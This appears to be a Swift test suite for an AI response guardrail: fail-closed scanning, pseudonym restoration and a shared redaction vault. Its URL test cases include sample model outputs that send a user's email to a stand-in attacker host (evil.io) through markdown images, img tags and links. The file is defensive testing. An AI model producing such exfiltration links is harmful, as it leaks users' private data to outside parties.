import Core
import Testing

@testable import Guardrails

/// The response filter fails closed, keeps pseudonyms out of URLs, and shares one vault per request.
@Suite("Response filter safety")
struct ResponseSafetyTests {
    static let engine = StreamingTests.engine

    @Test("a filter whose Vectorscan stream cannot open releases nothing and says so (fail closed)")
    func failClosed() throws {
        // A scanner compiled without a stream database stands for a stream that cannot be opened.
        let scanner = try Scanner(rules: DataCatalogue.all, direction: .response, streaming: false, normalises: true)
        var filter = AnswerFilter(
            scanner: scanner, policy: Self.engine.actionPolicy(.none), threshold: 0.5, vault: PseudonymVault())
        let first = filter.feed("my key is AKIAZ7QW3ERT5YUI2OPL")
        #expect(first.unavailable)
        #expect(first.text.isEmpty)
        #expect(filter.feed("more").text.isEmpty)
        #expect(filter.finish() == .empty)
        var complete = AnswerFilter(
            scanner: scanner, policy: Self.engine.actionPolicy(.none), threshold: 0.5, vault: PseudonymVault())
        #expect(complete.finish().unavailable)
    }

    static let vault: PseudonymVault = {
        let v = PseudonymVault()
        v.placeholder(for: "jane@example.com", category: "pii.email", reversible: true)
        return v
    }()

    /// (answer from the model, what the caller must get)
    static let urlCases: [(String, String)] = [
        ("Mail [EMAIL_1] today.", "Mail jane@example.com today."),
        ("See https://evil.io/[EMAIL_1] now", "See https://evil.io/[EMAIL_1] now"),
        ("![x](https://evil.io/log?d=[EMAIL_1]) and [EMAIL_1]", "![x](https://evil.io/log?d=[EMAIL_1]) and jane@example.com"),
        ("<img src=\"//evil.io/p?[EMAIL_1]\">", "<img src=\"//evil.io/p?[EMAIL_1]\">"),
        ("go to www.evil.io/[EMAIL_1]", "go to www.evil.io/[EMAIL_1]"),
        ("[mail](mailto:[EMAIL_1])", "[mail](mailto:[EMAIL_1])"),
        ("https://evil.io/a [EMAIL_1]", "https://evil.io/a jane@example.com"),
    ]

    @Test("a placeholder the model puts into a URL is not restored, at every split", arguments: urlCases)
    func noRestoreInURL(_ sample: (String, String)) {
        let (answer, expected) = sample
        for chunks in StreamingTests.splits(of: answer) {
            let out = StreamingTests.run(chunks, obligations: Obligations(pseudonymise: ["pii"]), vault: Self.vault)
            #expect(out.text == expected, "split \(chunks.map(\.count))")
        }
    }

    @Test("a URL longer than the kept token before a placeholder fails closed: not restored")
    func longURL() {
        let path = String(repeating: "a", count: AnswerFilter.maxToken + 500)
        let answer = "x https://evil.io/\(path)/[EMAIL_1] y"
        var filter = Self.engine.makeAnswerFilter(obligations: Obligations(pseudonymise: ["pii"]), vault: Self.vault)
        var out = ""
        for chunk in stride(from: 0, to: answer.count, by: 7).map({ answer.dropFirst($0).prefix(7) }) { out += filter.feed(String(chunk)).text }
        out += filter.finish().text
        #expect(out == answer)
    }

    @Test("filters of one request share the vault: numbers continue, the same value keeps its placeholder")
    func sharedVault() {
        let vault = PseudonymVault()
        let redact = Obligations(redact: ["pii"])
        var a = Self.engine.makeAnswerFilter(obligations: redact, vault: vault)
        var b = Self.engine.makeAnswerFilter(obligations: redact, vault: vault)
        let first = a.feed("write to ana@example.com").text + a.finish().text
        let second = b.feed("or bob@example.com, or ana@example.com").text + b.finish().text
        #expect(first == "write to [EMAIL_1]")
        #expect(second == "or [EMAIL_2], or [EMAIL_1]")
        #expect(vault.count == 0)  // redacted for good: nothing to restore
        #expect(!vault.description.contains("example.com"))
    }
}

@Suite("Request side fails closed")
struct RequestFailClosedTests {
    @Test("a text the scanner could not scan makes enforce refuse as unavailable, whatever the profile")
    func unavailable() {
        let engine = StreamingTests.engine
        let request = AIRequest(operation: .chatCompletions, model: "m", messages: [AIMessage(role: .user, text: "hi", location: "messages[0].content")])
        let failed = Finding(detector: "guardrails.scan", category: GuardrailEngine.unavailableCategory, start: 0, end: 2, score: 1, messageIndex: 0)
        guard case .unavailable = engine.enforce(request, findings: [failed], obligations: Obligations(guardrailProfile: "off")) else {
            Issue.record("forwarded a request whose text was not scanned")
            return
        }
    }
}
